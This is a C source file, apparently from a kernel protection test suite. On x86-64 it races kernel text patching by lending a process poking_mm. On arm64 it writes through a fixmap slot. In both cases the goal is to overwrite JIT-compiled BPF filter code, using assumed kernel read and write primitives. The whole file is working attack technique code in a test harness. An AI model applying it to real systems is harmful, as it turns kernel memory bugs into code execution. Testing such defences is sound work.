// SPDX-License-Identifier: GPL-2.0-only
/*
 * While the kernel patches text it has a mapping of it that can be written, which
 * has no key. Another CPU stores through that. On arm64 it is a slot of the fixmap,
 * which all CPUs see. On x86-64 it is in poking_mm, which a process is given:
 * task->mm is ordinary memory, and poking_mm has a record like any mm. That process
 * has the kernel store there, as read() does to any buffer.
 */
#include <fcntl.h>
#include <linux/filter.h>
#include <signal.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "attack.h"
#include "filter.h"
#include "list.h"
#include "objects.h"

#define OTHER_CPU	1
#define SECONDS		30
#define TRIES		1000	/* of processes: some tens are enough */

static int attach_filter(int fd)
{
	struct sock_filter code[] = { { BPF_RET | BPF_K, 0, 0, 7 } };
	struct sock_fprog filter = { .len = 1, .filter = code };

	return setsockopt(fd, SOL_SOCKET, SO_ATTACH_FILTER, &filter, sizeof(filter));
}

/* Each filter is copied to the page that has the first one, and erased there. */
static pid_t start_patching(void)
{
	int fd = socket(AF_UNIX, SOCK_DGRAM, 0);
	pid_t pid = fork();

	if (pid)
		return pid;
	stay_on_cpu(0);
	for (;;)
		if (attach_filter(fd))
			_exit(1);
}

static bool has_changed(const struct filter *filter)
{
	return (uint32_t)kread64(filter->code) == filter->patched;
}

#ifdef __x86_64__
#define TASK_SIZE	4096		/* as much of it as has the two words */
#define MM_USERS	120		/* in struct mm_struct */
#define MANY		(1 << 20)	/* each process that ends drops one */

/* task->mm, which active_mm comes behind. */
static uint64_t offset_of_mm(void)
{
	struct task task;
	uint64_t at;

	if (ktask(0, &task))
		return 0;
	at = find_word(task.task, TASK_SIZE, task.mm);
	return at && kread64(at + sizeof(at)) == task.mm ? at - task.task : 0;
}

static int add_users(uint64_t mm, int nr)
{
	int users;

	if (kread(mm + MM_USERS, &users, sizeof(users)))
		return -1;
	users += nr;
	return kwrite(mm + MM_USERS, &users, sizeof(users));
}

/* What waits for input gets poking_mm, and the input goes to where that maps text. */
static void store_in(uint64_t mm, uint64_t offset, uint64_t addr, uint32_t value, const int *fds)
{
	uint64_t both[2] = { mm, mm };
	struct task task;
	uint32_t rest;
	pid_t pid = fork();

	if (!pid) {
		(void)!read(fds[0], (void *)addr, sizeof(value));
		_exit(0);
	}
	usleep(1000);
	if (!ktask(pid, &task))
		kwrite(task.task + offset, both, sizeof(both));
	(void)!write(fds[1], &value, sizeof(value));
	waitpid(pid, NULL, 0);
	fcntl(fds[0], F_SETFL, O_NONBLOCK);
	(void)!read(fds[0], &rest, sizeof(rest));
	fcntl(fds[0], F_SETFL, 0);
}

static enum outcome store_to_text(struct filter *filter, uint64_t mm, uint64_t at)
{
	uint64_t offset = offset_of_mm(), addr = at + filter->code % PAGE_SIZE;
	time_t end = time(NULL) + SECONDS;
	int tries = 0, fds[2];

	if (!offset || pipe(fds) || add_users(mm, MANY))
		return broken("no mm in the task");
	for (; !has_changed(filter) && tries < TRIES && time(NULL) < end; tries++)
		store_in(mm, offset, addr, filter->patched, fds);
	add_users(mm, tries - MANY);
	if (!has_changed(filter))
		return lost("%d stores to where the kernel maps text, none of them hit", tries);
	return filter_judge(filter, 0);
}

enum outcome poking_mm_borrowed(void)
{
	uint64_t mm = kread64(ksymbol(PATCH_MM)), at = kread64(ksymbol(PATCH_ADDR));
	enum outcome outcome;
	struct filter filter;
	pid_t pid;

	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
		return skipped("needs a second CPU");
	if (!mm || !at || !filter_open(&filter))
		return broken("no mm to patch by, or no compiled filter");
	pid = start_patching();
	stay_on_cpu(OTHER_CPU);
	outcome = store_to_text(&filter, mm, at);
	kill(pid, SIGKILL);
	waitpid(pid, NULL, 0);
	return outcome;
}

enum outcome patch_slot(void)
{
	return skipped("this kernel patches text in another way");
}
#else
/* Behind slots for 2 MiB of device tree and four more. */
#define FIXMAP_TOP	(-(8UL << 20))
#define TEXT_SLOT	(4 + (2UL << 20) / PAGE_SIZE)

static enum outcome store_to_slot(struct filter *filter)
{
	uint64_t addr = FIXMAP_TOP - TEXT_SLOT * PAGE_SIZE + filter->code % PAGE_SIZE;
	time_t end = time(NULL) + SECONDS;
	int tries = 0;

	for (; !has_changed(filter) && time(NULL) < end; tries++)
		kwrite(addr, &filter->patched, sizeof(filter->patched));
	if (!has_changed(filter))
		return lost("%d stores to where the kernel maps text, none of them hit", tries);
	return filter_judge(filter, 0);
}

enum outcome patch_slot(void)
{
	enum outcome outcome;
	struct filter filter;
	pid_t pid;

	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
		return skipped("needs a second CPU");
	if (!filter_open(&filter))
		return broken("no compiled filter");
	pid = start_patching();
	stay_on_cpu(OTHER_CPU);
	outcome = store_to_slot(&filter);
	kill(pid, SIGKILL);
	waitpid(pid, NULL, 0);
	return outcome;
}

enum outcome poking_mm_borrowed(void)
{
	return skipped("this kernel patches text in another way");
}
#endif
